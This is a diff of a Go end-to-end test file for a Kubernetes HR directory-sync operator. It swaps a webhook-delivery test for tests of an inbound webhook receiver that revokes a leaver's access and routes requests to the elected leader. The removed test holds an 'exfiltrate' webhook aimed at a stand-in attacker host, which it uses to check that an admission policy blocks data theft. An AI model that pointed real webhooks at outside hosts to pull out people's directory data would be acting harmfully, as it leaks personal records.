@@ -20,265 +20,145 @@ package e2e
 
 import (
 	"context"
-	"encoding/json"
 	"fmt"
-	"net"
 	"net/http"
-	"slices"
+	"os/exec"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 
-	corev1 "k8s.io/api/core/v1"
 	"k8s.io/apimachinery/pkg/api/meta"
-	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
-	"sigs.k8s.io/controller-runtime/pkg/client"
 
 	dirsyncv1alpha1 "github.com/dirsync/dirsync/api/v1alpha1"
 	"github.com/dirsync/dirsync/internal/provider/fakehr"
-	"github.com/dirsync/dirsync/internal/webhookreceiver"
+	"github.com/dirsync/dirsync/test/utils"
 )
 
-const (
-	webhookCompany = 150
-	webhookSecret  = "e2e-webhook-signing-secret"
-	webhookTimeout = 2 * time.Minute
-)
+// The issue-23 story from the outside, with the real manager as its ServiceAccount: a Directory turns
+// its webhook on (the operator makes the token Secret, which its RBAC allows), HR marks a person a
+// leaver, the customer's own automation calls the receiver with curl (Breathe HR has no webhooks of its
+// own), and `kubectl auth can-i --as=<them>` turns from yes to no without waiting for the schedule.
+func TestWebhookLeaverLosesAccess(t *testing.T) {
+	kubeconfig := operatorIdentity(t)
+	ns, web := newNamespace(t, "e2e-hook-"), newNamespace(t, "e2e-hook-web-")
+	hr := startFakeHR(t, smallCompany)
+	mgr := startManager(t, "manager", kubeconfig, withReceiver)
+	watch := []*utils.Process{mgr.Process, hr.Process}
+	dirKey := createDirectory(t, ns, "breathe", hr)
+	waitReady(t, dirKey, smallCompany, firstSyncTimeout, watch...)
+	leaver, group := pickActiveMember(t, dirKey)
+	subject := "oidc:" + strings.ToLower(leaver.Spec.Email)
 
-// e2eReceiver is an application's endpoint: internal/webhookreceiver (the documented verification,
-// not the operator's signer), recording what it acknowledged, slowly enough that a stream takes a while.
-type e2eReceiver struct {
-	url  string
-	mu   sync.Mutex
-	got  []webhookreceiver.Event
-	data map[string]map[string]any // by event id: the body's data
-}
+	mustKubectl(t, "create", "rolebinding", accessGrantor, "-n", web, "--clusterrole="+accessGrantor,
+		"--serviceaccount="+operatorNamespace+":"+operatorServiceAccount)
+	accKey := types.NamespacedName{Namespace: ns, Name: "eng-edit"}
+	applyAccess(t, "", accKey, dirKey.Name, group, web)
+	waitAccessReason(t, accKey, dirsyncv1alpha1.ReasonBound, watch...)
+	expectCanI(t, subject, web, "yes")
 
-func startReceiver(t *testing.T, delay time.Duration) *e2eReceiver {
-	t.Helper()
-	r := &e2eReceiver{data: map[string]map[string]any{}}
-	h := &webhookreceiver.Handler{Secret: []byte(webhookSecret),
-		Answer: func(webhookreceiver.Event) int { time.Sleep(delay); return http.StatusNoContent },
-		OnEvent: func(ev webhookreceiver.Event) {
-			var body struct {
-				Data map[string]any `json:"data"`
-			}
-			_ = json.Unmarshal(ev.Body, &body)
-			r.mu.Lock()
-			r.got = append(r.got, ev)
-			r.data[ev.ID] = body.Data
-			r.mu.Unlock()
-		}}
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	mustKubectl(t, "patch", "directory", dirKey.Name, "-n", ns, "--type=merge", "-p", `{"spec":{"webhook":{"enabled":true}}}`)
+	path := waitWebhookPath(t, dirKey, watch...)
+	url := mgr.receiverURL(t)
+	if code := curlPost(t, url+path+"0", "ActionId:3"); code != http.StatusNotFound {
+		t.Errorf("curl with a wrong path: HTTP %d, want 404", code)
+	}
+
+	var marked fakehr.LeaverResponse
+	hr.admin(t, http.MethodPost, "/admin/leaver", fakehr.LeaverRequest{ID: leaver.Spec.ExternalID}, &marked)
+	posted := time.Now()
+	if code := curlPost(t, url+path, "EmployeeId:"+leaver.Spec.ExternalID); code != http.StatusAccepted {
+		t.Fatalf("curl with the Directory's path: HTTP %d, want 202", code)
+	}
+	eventually(t, syncTimeout, "kubectl auth can-i --as="+subject+" to say no", func(context.Context) (bool, string) {
+		out, _ := kubectl("", "auth", "can-i", "create", "deployments", "-n", web, "--as="+subject)
+		return strings.TrimSpace(out) == "no", "can-i: " + strings.TrimSpace(out)
+	}, watch...)
+	t.Logf("access revoked %s after the webhook request", time.Since(posted).Round(time.Millisecond))
+	dir, err := getDirectory(callCtx(t), dirKey)
 	if err != nil {
 		t.Fatal(err)
 	}
-	srv := &http.Server{Handler: h, ReadHeaderTimeout: 10 * time.Second}
-	go func() { _ = srv.Serve(ln) }()
-	t.Cleanup(func() { _ = srv.Close() })
-	r.url = "http://" + ln.Addr().String() + "/hooks"
-	return r
-}
-
-func (r *e2eReceiver) events() []webhookreceiver.Event {
-	r.mu.Lock()
-	defer r.mu.Unlock()
-	return slices.Clone(r.got)
-}
-
-// lastState is, per person (object id), the state and job title of the last user event.
-func (r *e2eReceiver) lastState() map[string]string {
-	r.mu.Lock()
-	defer r.mu.Unlock()
-	out := map[string]string{}
-	for _, ev := range r.got {
-		if !strings.Contains(ev.Type, "user.") || strings.Contains(ev.Type, "user_") {
-			continue
-		}
-		d := r.data[ev.ID]
-		if strings.HasSuffix(ev.Type, "deleted") || strings.HasSuffix(ev.Type, "deleted.v1") {
-			out[ev.Object] = "deleted"
-			continue
-		}
-		attrs, _ := d["custom_attributes"].(map[string]any)
-		title, _ := attrs["job_title"].(string)
-		out[ev.Object] = fmt.Sprint(d["state"], "|", title)
+	if !strings.HasPrefix(dir.Status.LastHandledSyncRequest, dirsyncv1alpha1.SyncRequestWebhookPrefix) {
+		t.Errorf("the sync that saw the leaver answered %q, want the receiver's webhook/ request", dir.Status.LastHandledSyncRequest)
 	}
-	return out
 }
 
-// types is the set of event types acknowledged.
-func (r *e2eReceiver) types() []string {
-	var out []string
-	for _, ev := range r.events() {
-		if !slices.Contains(out, ev.Type) {
-			out = append(out, ev.Type)
-		}
-	}
-	slices.Sort(out)
-	return out
-}
-
-// The real manager, as the operator's ServiceAccount, sends a Directory's people to two applications,
-// one in each format; it is SIGKILLed in the middle of the stream and restarted; then HR changes (a
-// department renamed and another dissolved, a move, a new title, a leaver, a person removed). Each
-// application ends with every person as their DirectoryUser says, having seen every event type of its
-// format, every request signed. Someone who may create DirectoryWebhooks but not read the directory is
-// refused by the admission policy of config/default.
-func TestDirectoryWebhookDeliversAndSurvivesAKill(t *testing.T) {
+// Two replicas with leader election: the POST reaches the follower (a Service may send it to any
+// replica), the follower writes the request, and the leader syncs; the follower never syncs.
+func TestWebhookReachesTheLeaderFromAnyReplica(t *testing.T) {
 	kubeconfig := operatorIdentity(t)
-	ns := newNamespace(t, "e2e-webhook-")
-	hr := startFakeHR(t, webhookCompany)
-	mgr := startManager(t, "manager-webhooks", kubeconfig, "--kube-api-qps=300", "--kube-api-burst=600")
+	ns := newNamespace(t, "e2e-hook-leader-")
+	hr := startFakeHR(t, smallCompany)
+	flags := []string{"--leader-elect", "--leader-election-namespace=" + operatorNamespace, withReceiver}
+	replicas := []*manager{startManager(t, "replica-1", kubeconfig, flags...), startManager(t, "replica-2", kubeconfig, flags...)}
+	all := []*utils.Process{replicas[0].Process, replicas[1].Process, hr.Process}
+	var leader, follower *manager
+	eventually(t, failoverTimeout, "a replica to acquire the Lease", func(context.Context) (bool, string) {
+		for i, r := range replicas {
+			if len(r.LogEntries(acquiredLease)) > 0 {
+				leader, follower = r, replicas[1-i]
+				return true, ""
+			}
+		}
+		return false, "no replica has logged " + acquiredLease
+	}, all...)
 	key := createDirectory(t, ns, "breathe", hr)
-	waitReady(t, key, webhookCompany, syncTimeout, mgr.Process, hr.Process)
+	waitReady(t, key, smallCompany, firstSyncTimeout, all...)
+	mustKubectl(t, "patch", "directory", key.Name, "-n", ns, "--type=merge", "-p", `{"spec":{"webhook":{"enabled":true}}}`)
+	path := waitWebhookPath(t, key, all...)
+	synced := leader.syncedLines()
 
-	if err := k8s.Create(callCtx(t), &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "signing"},
-		StringData: map[string]string{"secret": webhookSecret}}); err != nil {
-		t.Fatal(err)
+	if code := curlPost(t, follower.receiverURL(t)+path, `{"note":"from a customer's automation"}`); code != http.StatusAccepted {
+		t.Fatalf("POST to %s (the follower): HTTP %d, want 202", follower.Name, code)
 	}
-	workos, ce := startReceiver(t, 15*time.Millisecond), startReceiver(t, 0)
-	createWebhook(t, ns, "workos-app", key.Name, workos.url, dirsyncv1alpha1.WebhookFormatWorkOS)
-	createWebhook(t, ns, "siem", key.Name, ce.url, dirsyncv1alpha1.WebhookFormatCloudEvents)
-
-	// Kill the manager when the slower application has heard of a third of the people.
-	eventually(t, webhookTimeout, "the WorkOS application to hear of 50 people", func(context.Context) (bool, string) {
-		n := len(workos.lastState())
-		return n >= 50, fmt.Sprintf("%d people", n)
-	}, mgr.Process, hr.Process)
-	first := mgr
-	mgr.kill(t)
-	heard := len(workos.lastState())
-	if heard >= webhookCompany {
-		t.Fatalf("the stream had finished (%d people) before the kill; nothing was tested", heard)
-	}
-	t.Logf("killed the manager with %d of %d people told", heard, webhookCompany)
-	mgr = startManager(t, "manager-webhooks-restarted", kubeconfig, "--kube-api-qps=300", "--kube-api-burst=600")
-	waitWebhooksMatch(t, key, mgr, hr, workos, ce)
-
-	// HR changes every kind of thing, in one sync.
-	var co fakehr.Company
-	hr.admin(t, http.MethodGet, "/admin/company", nil, &co)
-	dissolved, renamed := co.Departments[0], &co.Departments[1]
-	renamed.Name += " (renamed)"
-	co.Departments = co.Departments[1:]
-	var changed []string
-	for i := range co.Employees {
-		e := &co.Employees[i]
-		if e.DepartmentID == dissolved.ID {
-			e.DepartmentID = renamed.ID // the dissolved department's people move
-		}
-	}
-	for i := range co.Employees {
-		if e := &co.Employees[i]; e.Status == fakehr.Current && e.DepartmentID != "" && len(changed) < 2 {
-			if len(changed) == 0 {
-				e.JobTitle = "Staff " + e.JobTitle
-			} else {
-				e.Status, e.LeavingDate = fakehr.Former, time.Now().UTC().AddDate(0, 0, -1).Format(time.DateOnly)
-			}
-			changed = append(changed, e.ID)
-		}
-	}
-	co.Employees = co.Employees[:len(co.Employees)-1] // one person is gone from HR
-	hr.admin(t, http.MethodPut, "/admin/company", co, nil)
-	forceSync(t, key, syncTimeout, mgr.Process, hr.Process)
-	waitWebhooksMatch(t, key, mgr, hr, workos, ce)
-
-	for r, want := range map[*e2eReceiver][]string{
-		workos: {"dsync.group.created", "dsync.group.deleted", "dsync.group.updated", "dsync.group.user_added", "dsync.group.user_removed",
-			"dsync.user.created", "dsync.user.deleted", "dsync.user.updated"},
-		ce: {"io.dirsync.group.created.v1", "io.dirsync.group.deleted.v1", "io.dirsync.group.updated.v1", "io.dirsync.group.user_added.v1",
-			"io.dirsync.group.user_removed.v1", "io.dirsync.user.created.v1", "io.dirsync.user.deactivated.v1", "io.dirsync.user.deleted.v1",
-			"io.dirsync.user.updated.v1"},
-	} {
-		if got := r.types(); !slices.Equal(got, want) {
-			t.Errorf("event types acknowledged: %v, want %v", got, want)
-		}
-	}
-
-	// The admission policy: mallory may create DirectoryWebhooks in ns, not list its people.
-	installAdmissionPolicy(t)
-	const mallory = "mallory@example.com"
-	mustKubectl(t, "create", "role", "webhook-author", "-n", ns, "--verb=create,get", "--resource=directorywebhooks.dirsync.io")
-	mustKubectl(t, "create", "rolebinding", "webhook-author", "-n", ns, "--role=webhook-author", "--user="+mallory)
-	exfiltrate := webhookYAML(ns, "exfiltrate", key.Name, "https://attacker.example/collect", dirsyncv1alpha1.WebhookFormatWorkOS)
-	eventually(t, syncTimeout, "the admission policy to be enforced", func(context.Context) (bool, string) {
-		_, err := kubectl(exfiltrate, "create", "-f", "-", "--as="+mallory, "--dry-run=server")
-		return err != nil, fmt.Sprint(err)
-	}, mgr.Process)
-	if _, err := kubectl(exfiltrate, "create", "-f", "-", "--as="+mallory); err == nil ||
-		!strings.Contains(err.Error(), "you may not list directoryusers in namespace "+ns) {
-		t.Errorf("mallory, who may not list directoryusers in %s, creating a DirectoryWebhook: %v", ns, err)
-	}
-	mgr.assertNoForbidden(t)
-	for _, m := range []*manager{first, mgr} {
-		if strings.Contains(m.Output(), webhookSecret) {
-			t.Errorf("the signing secret is in %s's output", m.Name)
-		}
-	}
-}
-
-func webhookYAML(ns, name, directory, url string, format dirsyncv1alpha1.WebhookFormat) string {
-	return fmt.Sprintf(`apiVersion: dirsync.io/v1alpha1
-kind: DirectoryWebhook
-metadata: {name: %s, namespace: %s}
-spec:
-  directoryRef: {name: %s}
-  url: %s
-  secretRef: {name: signing}
-  format: %s
-`, name, ns, directory, url, format)
-}
-
-func createWebhook(t *testing.T, ns, name, directory, url string, format dirsyncv1alpha1.WebhookFormat) {
-	t.Helper()
-	if _, err := kubectl(webhookYAML(ns, name, directory, url, format), "create", "-f", "-"); err != nil {
-		t.Fatal(err)
-	}
-}
-
-// waitWebhooksMatch waits until both webhooks are Delivered and each application's last word on every
-// person is what their DirectoryUser says (people gone from HR: deleted).
-func waitWebhooksMatch(t *testing.T, key types.NamespacedName, mgr *manager, hr *fakeHR, receivers ...*e2eReceiver) {
-	t.Helper()
-	eventually(t, webhookTimeout, "every application to agree with the DirectoryUsers", func(ctx context.Context) (bool, string) {
-		var hooks dirsyncv1alpha1.DirectoryWebhookList
-		if err := k8s.List(ctx, &hooks, client.InNamespace(key.Namespace)); err != nil {
+	eventually(t, syncTimeout, "the leader to answer the follower's request", func(ctx context.Context) (bool, string) {
+		d, err := getDirectory(ctx, key)
+		if err != nil {
 			return false, err.Error()
 		}
-		for _, h := range hooks.Items {
-			if c := meta.FindStatusCondition(h.Status.Conditions, dirsyncv1alpha1.ConditionReady); c == nil || c.Reason != dirsyncv1alpha1.ReasonDelivered ||
-				h.Status.ObservedGeneration != h.Generation {
-				return false, fmt.Sprintf("webhook %s: %+v, pending %d", h.Name, c, h.Status.PendingEvents)
-			}
-		}
-		var users dirsyncv1alpha1.DirectoryUserList
-		if err := k8s.List(ctx, &users, client.InNamespace(key.Namespace)); err != nil {
+		return strings.HasPrefix(d.Status.LastHandledSyncRequest, dirsyncv1alpha1.SyncRequestWebhookPrefix), describe(d)
+	}, all...)
+	if n := leader.syncedLines(); n != synced+1 {
+		t.Errorf("%s (leader) logged %d more \"Synced Directory\" lines, want 1", leader.Name, n-synced)
+	}
+	if n := follower.syncedLines(); n != 0 {
+		t.Errorf("%s (follower) logged %d \"Synced Directory\" lines; want 0", follower.Name, n)
+	}
+}
+
+// waitWebhookPath waits until the Directory's WebhookReceiver condition is True and returns its path.
+func waitWebhookPath(t *testing.T, key types.NamespacedName, watch ...*utils.Process) string {
+	t.Helper()
+	var path string
+	eventually(t, syncTimeout, fmt.Sprintf("Directory %s to publish status.webhook.path", key), func(ctx context.Context) (bool, string) {
+		d, err := getDirectory(ctx, key)
+		if err != nil {
 			return false, err.Error()
 		}
-		want := map[string]string{}
-		for _, u := range users.Items {
-			state := "active"
-			if u.Spec.State == dirsyncv1alpha1.UserStateInactive {
-				state = "inactive"
-			}
-			want[key.Namespace+"."+u.Name] = state + "|" + u.Spec.JobTitle
+		c := meta.FindStatusCondition(d.Status.Conditions, dirsyncv1alpha1.ConditionWebhookReceiver)
+		if d.Status.Webhook == nil || c == nil {
+			return false, "no status.webhook yet"
 		}
-		for i, r := range receivers {
-			got := r.lastState()
-			for id, s := range got {
-				if _, ok := want[id]; !ok && s != "deleted" {
-					return false, fmt.Sprintf("application %d still has %s (%s), who is gone", i, id, s)
-				}
-			}
-			for id, s := range want {
-				if got[id] != s {
-					return false, fmt.Sprintf("application %d has %s as %q, the DirectoryUser says %q", i, id, got[id], s)
-				}
-			}
-		}
-		return true, ""
-	}, mgr.Process, hr.Process)
+		path = d.Status.Webhook.Path
+		return path != "" && c.Reason == dirsyncv1alpha1.ReasonReceiving, c.Reason + ": " + c.Message
+	}, watch...)
+	return path
+}
+
+// curlPost POSTs body to url with curl, as a customer's script would, and returns the HTTP status.
+func curlPost(t *testing.T, url, body string) int {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), httpTimeout)
+	defer cancel()
+	out, err := exec.CommandContext(ctx, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-X", "POST",
+		"--data-binary", body, url).CombinedOutput()
+	if err != nil {
+		t.Fatalf("curl: %v: %s", err, out)
+	}
+	var code int
+	if _, err := fmt.Sscan(string(out), &code); err != nil {
+		t.Fatalf("curl printed %q", out)
+	}
+	return code
 }
